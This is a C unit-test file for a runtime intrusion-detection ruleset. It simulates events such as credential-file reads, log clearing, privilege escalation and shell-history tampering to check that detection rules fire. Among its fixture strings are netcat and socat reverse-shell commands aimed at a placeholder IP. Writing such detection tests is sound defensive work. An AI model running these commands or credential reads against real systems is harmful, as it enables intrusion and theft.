// SPDX-License-Identifier: Apache-2.0
/* vigil's bundled rules (rules/vigil_rules.yaml): load, and fire on what they describe. */
#include <errno.h>
#include <fcntl.h>
#include <unistd.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "test_rules_util.h"
#include "testutil.h"

#define VIGIL_RULES 24 /* rules in rules/vigil_rules.yaml */

static struct vgl_ruleset *rs;

static int setup(void **state)
{
	char path[1024];
	const char *files[1] = { path };
	struct vgl_diag d;

	(void)state;
	tu_source_path(path, sizeof(path), "rules/vigil_rules.yaml");
	vgl_diag_init(&d);
	if (vgl_ruleset_load(files, 1, NULL, &rs, &d))
		diag_dump(&d);
	/* No warnings either: every evt.type is one vigil captures. */
	if (d.n)
		diag_dump(&d);
	assert_int_equal(d.n, 0);
	vgl_diag_free(&d);
	return rs ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	vgl_ruleset_free(rs);
	return 0;
}

static bool fires(const struct tev *t, const char *rule)
{
	struct hits h;

	eval_hits(rs, &t->ev, NULL, NULL, &h);
	return hits_has(&h, rule);
}

static void test_files(void **state)
{
	struct tev t;

	(void)state;
	tev_open(&t, "vim", "/etc/ld.so.preload", O_WRONLY | O_CREAT, 3);
	assert_true(fires(&t, "Write below etc"));
	tev_open(&t, "dpkg", "/etc/ld.so.preload", O_WRONLY | O_CREAT, 3);
	assert_false(fires(&t, "Write below etc"));
	tev_open(&t, "vim", "/etc/hosts", O_RDONLY, 3);
	assert_false(fires(&t, "Write below etc"));
	tev_open(&t, "python3", "/etc/shadow", O_RDONLY, 3);
	assert_true(fires(&t, "Read sensitive file"));
	tev_open(&t, "sshd", "/etc/shadow", O_RDONLY, 3);
	assert_false(fires(&t, "Read sensitive file"));
	tev_open(&t, "python3", "/etc/shadow", O_RDONLY, -13);
	assert_false(fires(&t, "Read sensitive file"));
	tev_open(&t, "bash", "/root/.bash_history", O_WRONLY | O_TRUNC, 3);
	assert_true(fires(&t, "Shell history tampered"));
	tev_init(&t, VGL_EV_UNLINKAT, "rm", 10, 0);
	tev_str(&t, "name", "/home/u/.zsh_history");
	assert_true(fires(&t, "Shell history tampered"));
}

/* Every rule: enabled, described, tagged with a MITRE ATT&CK technique id. */
static void test_every_rule(void **state)
{
	size_t r, t;

	(void)state;
	assert_int_equal(vgl_ruleset_nrules(rs), VIGIL_RULES);
	for (r = 0; r < vgl_ruleset_nrules(rs); r++) {
		const struct vgl_rule_info *ri = vgl_ruleset_rule(rs, r);
		bool technique = false;

		assert_true(ri->enabled);
		assert_non_null(ri->desc);
		for (t = 0; t < ri->ntags; t++)
			technique |= ri->tags[t][0] == 'T' && ri->tags[t][1] >= '0' &&
				     ri->tags[t][1] <= '9';
		if (!technique)
			fail_msg("rule \"%s\" has no MITRE technique tag", ri->name);
	}
}

/* Falco's three stock files load together with vigil's, without errors or warnings. */
static void test_with_stock(void **state)
{
	static const char *const names[] = { "falco_rules.yaml", "falco-incubating_rules.yaml",
					     "falco-sandbox_rules.yaml" };
	char paths[4][1200];
	const char *files[4];
	struct vgl_ruleset *all = NULL;
	struct vgl_diag d;

	(void)state;
	for (size_t i = 0; i < 3; i++) {
		char rel[128];

		snprintf(rel, sizeof(rel), "../shared/compat/falco/%s", names[i]);
		tu_source_path(paths[i], sizeof(paths[i]), rel);
		if (access(paths[i], R_OK))
			tu_skip_or_fail("Falco stock rule file %s: %s", paths[i], strerror(errno));
		files[i] = paths[i];
	}
	tu_source_path(paths[3], sizeof(paths[3]), "rules/vigil_rules.yaml");
	files[3] = paths[3];
	vgl_diag_init(&d);
	if (vgl_ruleset_load(files, 4, NULL, &all, &d) || d.n)
		diag_dump(&d);
	assert_non_null(all);
	assert_int_equal(d.n, 0);
	vgl_diag_free(&d);
	vgl_ruleset_free(all);
}

/* Credential files other than /etc/shadow: SSH keys, cloud credentials, sudoers.d. */
static void test_credentials(void **state)
{
	struct tev t;

	(void)state;
	tev_open(&t, "python3", "/home/alice/.ssh/id_ed25519", O_RDONLY, 3);
	assert_true(fires(&t, "Read SSH private key"));
	tev_open(&t, "python3", "/home/alice/.ssh/id_ed25519.pub", O_RDONLY, 3);
	assert_false(fires(&t, "Read SSH private key"));
	tev_open(&t, "ssh", "/home/alice/.ssh/id_ed25519", O_RDONLY, 3);
	assert_false(fires(&t, "Read SSH private key"));
	tev_open(&t, "cat", "/etc/ssh/ssh_host_rsa_key", O_RDONLY, 3);
	assert_true(fires(&t, "Read SSH private key"));
	tev_open(&t, "curl", "/root/.aws/credentials", O_RDONLY, 3);
	assert_true(fires(&t, "Read cloud credentials"));
	tev_open(&t, "kubectl", "/home/bob/.kube/config", O_RDONLY, 3);
	assert_false(fires(&t, "Read cloud credentials"));
	tev_open(&t, "curl", "/home/bob/.kube/config", O_RDONLY, 3);
	assert_true(fires(&t, "Read cloud credentials"));
	tev_open(&t, "less", "/etc/sudoers.d/90-cloud", O_RDONLY, 3);
	assert_true(fires(&t, "Read sensitive file"));
}

/* Writes below system directories, the runtime's files and /proc/sys. */
static void test_writes(void **state)
{
	struct tev t;

	(void)state;
	tev_open(&t, "curl", "/usr/bin/ls", O_WRONLY | O_TRUNC, 3);
	assert_true(fires(&t, "Write below binary directory"));
	tev_open(&t, "python3", "/usr/lib/python3/dist-packages/__pycache__/x.pyc", O_WRONLY, 3);
	assert_false(fires(&t, "Write below binary directory"));
	tev_open(&t, "python3", "/usr/local/lib/python3.11/dist-packages/x.py", O_WRONLY, 3);
	assert_true(fires(&t, "Write below binary directory"));
	tev_open(&t, "vim", "/root/.ssh/authorized_keys", O_WRONLY, 3);
	assert_true(fires(&t, "Write below root"));
	tev_open(&t, "vim", "/root/notes.txt", O_WRONLY, 3);
	assert_false(fires(&t, "Write below root"));
	tev_open(&t, "vim", "/etc/docker/daemon.json", O_WRONLY, 3);
	assert_true(fires(&t, "Container runtime configuration modified"));
	assert_false(fires(&t, "Write below etc"));
	tev_open(&t, "dockerd", "/var/lib/docker/containers/x/hostname", O_WRONLY, 3);
	assert_false(fires(&t, "Container runtime configuration modified"));
	tev_open(&t, "cp", "/usr/bin/runc", O_WRONLY | O_TRUNC, 3);
	assert_true(fires(&t, "Container runtime binary or unit modified"));
	assert_false(fires(&t, "Write below binary directory"));
	tev_open(&t, "sh", "/proc/sys/kernel/randomize_va_space", O_WRONLY, 3);
	assert_true(fires(&t, "Kernel parameter modified"));
	tev_open(&t, "sysctl", "/proc/sys/kernel/randomize_va_space", O_WRONLY, 3);
	assert_false(fires(&t, "Kernel parameter modified"));
	tev_open(&t, "sh", "/proc/sys/kernel/core_pattern", O_WRONLY, 3);
	assert_true(fires(&t, "Core pattern or kernel helper modified"));
	assert_false(fires(&t, "Kernel parameter modified"));
	tev_open(&t, "sh", "/var/log/auth.log", O_WRONLY | O_TRUNC, 3);
	assert_true(fires(&t, "Log files cleared"));
	tev_open(&t, "sh", "/var/log/auth.log", O_WRONLY | O_APPEND, 3);
	assert_false(fires(&t, "Log files cleared"));
	tev_open(&t, "logrotate", "/var/log/auth.log", O_WRONLY | O_TRUNC, 3);
	assert_false(fires(&t, "Log files cleared"));
	tev_exec(&t, "journalctl", "/usr/bin/journalctl", "journalctl --vacuum-time=1s");
	assert_true(fires(&t, "Log files cleared"));
}

/* A shell saving its own history (mode 0600) is not tampering; a redirection is. */
static void test_history_modes(void **state)
{
	struct tev t;

	(void)state;
	tev_open(&t, "bash", "/root/.bash_history", O_WRONLY | O_CREAT | O_TRUNC, 3);
	tev_num(&t, "mode", 0600);
	assert_false(fires(&t, "Shell history tampered"));
	tev_num(&t, "mode", 0666);
	assert_true(fires(&t, "Shell history tampered"));
	tev_open(&t, "bash", "/root/.python_history", O_WRONLY | O_TRUNC, 3);
	assert_false(fires(&t, "Shell history tampered"));
	tev_init(&t, VGL_EV_SYMLINKAT, "ln", 10, 0);
	tev_str(&t, "target", "/dev/null");
	tev_num(&t, "linkdirfd", -100);
	tev_str(&t, "linkpath", "/root/.bash_history");
	assert_true(fires(&t, "Shell history tampered"));
}

static void test_processes(void **state)
{
	struct tev t;

	(void)state;
	tev_exec(&t, "x", "/memfd:evil (deleted)", "x");
	assert_true(fires(&t, "Execution from memfd"));
	tev_exec(&t, "nc", "/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 4444");
	assert_true(fires(&t, "Netcat reverse shell"));
	tev_exec(&t, "socat", "/usr/bin/socat", "socat tcp:1.2.3.4:4444 exec:/bin/sh");
	assert_true(fires(&t, "Netcat reverse shell"));
	tev_exec(&t, "nc", "/usr/bin/nc", "nc -zv host 22");
	assert_false(fires(&t, "Netcat reverse shell"));
	tev_exec(&t, "x", "/tmp/x", "./x");
	assert_true(fires(&t, "Execution from temporary directory"));
	tev_exec(&t, "x", "/tmpfoo/x", "./x");
	assert_false(fires(&t, "Execution from temporary directory"));
	/* Without the container tracker no event is "in a container". */
	tev_exec(&t, "bash", "/bin/bash", "bash");
	assert_false(fires(&t, "Shell in container"));
}

static void test_privilege(void **state)
{
	struct tev t;

	(void)state;
	tev_init(&t, VGL_EV_SETUID, "exploit", 10, 0);
	t.ev.hdr.euid = t.ev.hdr.uid = 0;
	tev_num(&t, "uid", 0);
	tev_num(&t, "old_uid", 1000);
	tev_num(&t, "old_euid", 1000);
	assert_true(fires(&t, "Setuid to root by non-root"));
	tev_num(&t, "old_euid", 0);
	assert_false(fires(&t, "Setuid to root by non-root"));
	/* a root process taking back the effective uid it lowered */
	tev_num(&t, "old_uid", 0);
	tev_num(&t, "old_euid", 65534);
	assert_false(fires(&t, "Setuid to root by non-root"));
	tev_init(&t, VGL_EV_CAPSET, "exploit", 10, 0);
	t.ev.hdr.euid = t.ev.hdr.uid = 1000;
	tev_num(&t, "cap_effective", 1 << 21); /* CAP_SYS_ADMIN */
	tev_num(&t, "old_cap_effective", 0);
	assert_true(fires(&t, "Capabilities raised by non-root process"));
	tev_num(&t, "cap_effective", 1 << 13); /* CAP_NET_RAW: ping */
	assert_false(fires(&t, "Capabilities raised by non-root process"));
	tev_init(&t, VGL_EV_PTRACE, "inject", 10, 0);
	tev_num(&t, "request", 16); /* PTRACE_ATTACH */
	tev_num(&t, "pid", 1);
	assert_true(fires(&t, "Ptrace attach"));
	memcpy(t.ev.hdr.comm, "gdb", 4);
	assert_false(fires(&t, "Ptrace attach"));
	tev_init(&t, VGL_EV_FINIT_MODULE, "evil", 10, 0);
	tev_num(&t, "fd", 3);
	assert_true(fires(&t, "Kernel module loaded"));
	memcpy(t.ev.hdr.comm, "modprobe", 9);
	assert_false(fires(&t, "Kernel module loaded"));
	/* the attempt is reported, whatever the kernel answered */
	tev_init(&t, VGL_EV_FINIT_MODULE, "evil", 10, -8 /* ENOEXEC */);
	tev_num(&t, "fd", 3);
	assert_true(fires(&t, "Kernel module loaded"));
	tev_init(&t, VGL_EV_BPF, "loader", 10, 7);
	tev_num(&t, "cmd", 5); /* BPF_PROG_LOAD */
	assert_true(fires(&t, "BPF program loaded"));
	tev_init(&t, VGL_EV_UNSHARE, "evil", 10, 0);
	tev_num(&t, "flags", 0x10000000); /* CLONE_NEWUSER */
	assert_true(fires(&t, "Namespace change by unexpected program"));
}

static void test_network(void **state)
{
	struct tev t;

	(void)state;
	tev_init(&t, VGL_EV_CONNECT, "bash", 10, 0);
	tev_num(&t, "fd", 3);
	tev_sa(&t, "addr", "203.0.113.7", 4444);
	tev_sa(&t, "laddr", "10.0.0.2", 40000);
	assert_true(fires(&t, "Shell connected to remote host"));
	tev_sa(&t, "addr", "127.0.0.1", 4444);
	assert_false(fires(&t, "Shell connected to remote host"));
	tev_init(&t, VGL_EV_SOCKET, "tcpdump", 10, 3);
	tev_num(&t, "domain", 17); /* AF_PACKET */
	assert_true(fires(&t, "Packet socket created"));
	tev_num(&t, "domain", 2);
	assert_false(fires(&t, "Packet socket created"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_every_rule), cmocka_unit_test(test_with_stock),
		cmocka_unit_test(test_files),	   cmocka_unit_test(test_credentials),
		cmocka_unit_test(test_writes),	   cmocka_unit_test(test_history_modes),
		cmocka_unit_test(test_processes),  cmocka_unit_test(test_privilege),
		cmocka_unit_test(test_network),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
